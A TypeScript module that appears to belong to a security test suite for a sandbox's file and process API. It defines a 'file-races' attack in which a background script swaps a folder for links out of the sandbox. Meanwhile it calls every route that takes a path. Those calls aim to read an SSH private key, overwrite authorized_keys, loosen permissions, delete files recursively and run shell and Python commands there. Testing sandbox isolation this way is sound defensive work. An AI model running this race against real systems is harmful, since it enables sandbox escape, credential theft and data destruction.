import type { Attack } from '../attack'
import type { HostileSandbox } from '../sandbox'
import { intruder } from '../world'

const here = '/home/daytona/race/here'
const away = '/home/daytona/race/away'
const perRoute = 10

type Try = (sandbox: HostileSandbox, round: number) => Promise<unknown>

const form = (text: string): FormData => {
  const made = new FormData()
  made.append('file', new Blob([text]), 'file')
  return made
}
const bulk = (name: string): FormData => {
  const made = new FormData()
  made.append('files[0].path', name)
  made.append('files[0].file', new Blob([`written by an ${intruder}`]), 'file')
  return made
}

/** Every route with a path, using a path through the folder that is swapped. */
const routes: Record<string, Try> = {
  list: (it) => it.ask('GET', `/files?path=${here}&depth=3`),
  info: (it) => it.ask('GET', `/files/info?path=${here}/notes.txt`),
  download: (it) => it.ask('GET', `/files/download?path=${here}/notes.txt`),
  'bulk-download': (it) =>
    it.ask('POST', '/files/bulk-download', { paths: [`${here}/id_ed25519`, `${here}/notes.txt`] }),
  find: (it) => it.ask('GET', `/files/find?path=${here}&pattern=C`),
  search: (it) => it.ask('GET', `/files/search?path=${here}&pattern=*`),
  upload: (it) => it.ask('POST', `/files/upload?path=${here}/notes.txt`, form(`written by an ${intruder}`)),
  'upload of a new file': (it, n) => it.ask('POST', `/files/upload-v2?path=${here}/${intruder}-${n}`, form(intruder)),
  'bulk-upload': (it) => it.ask('POST', '/files/bulk-upload', bulk(`${here}/authorized_keys`)),
  folder: (it, n) => it.ask('POST', `/files/folder?path=${here}/${intruder}-folder-${n}/deep&mode=755`),
  permissions: (it) => it.ask('POST', `/files/permissions?path=${here}/notes.txt&mode=666`),
  replace: (it) =>
    it.ask('POST', '/files/replace', { files: [`${here}/notes.txt`], pattern: 'CANARY', newValue: intruder }),
  'move out': async (it, n) => {
    await it.ask('POST', `/files/move?source=${here}/id_ed25519&destination=${away}-${n}`)
    await it.ask('GET', `/files/download?path=${away}-${n}`)
  },
  'move in': async (it, n) => {
    await it.upload(`${away}-in-${n}`, `written by an ${intruder}`)
    await it.ask('POST', `/files/move?source=${away}-in-${n}&destination=${here}/${intruder}-moved-${n}`)
  },
  'move of a folder': (it, n) => it.ask('POST', `/files/move?source=${here}/project&destination=${away}-project-${n}`),
  'move to another file system': (it, n) =>
    it.ask('POST', `/files/move?source=${here}/project&destination=/dev/shm/project-${n}`),
  delete: (it) => it.ask('DELETE', `/files?path=${here}/authorized_keys`),
  'recursive delete': (it) => it.ask('DELETE', `/files?path=${here}/project&recursive=true`),
  'cwd of a command': (it) => it.ask('POST', '/process/execute', { command: 'cat notes.txt; ls -A . ..', cwd: here }),
  'cwd of a run': async (it) => {
    const made = await it.ask('POST', '/process/run', { kind: 'command', command: 'cat notes.txt; ls -A', cwd: here })
    if (made.status < 300) {
      await it.ask('GET', `/process/run/${made.json<{ id: string }>().id}/journal/download`)
    }
  },
  'cwd of a session': async (it, n) => {
    await it.ask('POST', '/process/session', { sessionId: `race-${n}`, cwd: here })
    await it.ask('POST', `/process/session/race-${n}/exec`, { command: 'cat notes.txt; ls -A . ..' })
    await it.ask('DELETE', `/process/session/race-${n}`)
  },
  'cwd of a PTY': async (it, n) => {
    await it.ask('POST', '/process/pty', { id: `race-${n}`, cwd: here })
    await it.converse(`/process/pty/race-${n}/connect`, ['cat notes.txt; ls -A . ..; echo do""ne\n'], 3_000, /done/)
    await it.ask('DELETE', `/process/pty/race-${n}`)
  },
  'cwd of a context': async (it) => {
    const made = await it.ask('POST', '/process/interpreter/context', { language: 'python', cwd: here })
    if (made.status >= 300) return
    const { id } = made.json<{ id: string }>()
    const code = 'import os; print(open("notes.txt").read(), os.listdir("."), os.listdir(".."), "do" + "ne")'
    await it.converse('/process/interpreter/execute', [JSON.stringify({ code, contextId: id })], 3_000, /done|rror/)
    await it.ask('DELETE', `/process/interpreter/context/${id}`)
  },
}

/** These start a program each time, so they run less often. */
const slow = new Set(['cwd of a session', 'cwd of a PTY', 'cwd of a context', 'cwd of a run'])

export const fileRaces: Attack = {
  name: 'file-races',
  lines: [3],
  isForPlainProcesses: false,
  description: 'swaps a folder for links out of the sandbox while a client calls every route with a path',

  async run(world) {
    const sandbox = await world.sandbox()
    await sandbox.startBackground('file_race.py')
    for (const [name, attempt] of Object.entries(routes)) {
      const count = Math.ceil((slow.has(name) ? perRoute / 4 : perRoute) * world.effort.rounds)
      for (let round = 0; round < count; round += 1) {
        await attempt(sandbox, round)
        if (world.gotMore(name)) break
      }
    }
    await sandbox.stopBackground('file_race.py')
  },
}
